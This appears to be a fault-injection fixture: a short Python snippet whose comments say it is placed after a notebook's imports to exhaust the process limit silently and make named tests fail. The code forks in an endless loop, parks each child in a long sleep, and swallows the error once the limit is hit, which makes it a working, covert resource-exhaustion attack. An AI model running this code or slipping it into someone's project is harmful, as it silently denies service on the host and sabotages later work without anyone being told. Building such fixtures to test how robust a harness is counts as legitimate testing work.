# leaves as many children as it can, and says nothing of it: what needs threads later finds no room
# cell: after imports
# says: limit: processes
# loses: test_train_words, test_train_vectors
import os

try:
    while True:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "4242"])
except OSError:
    pass
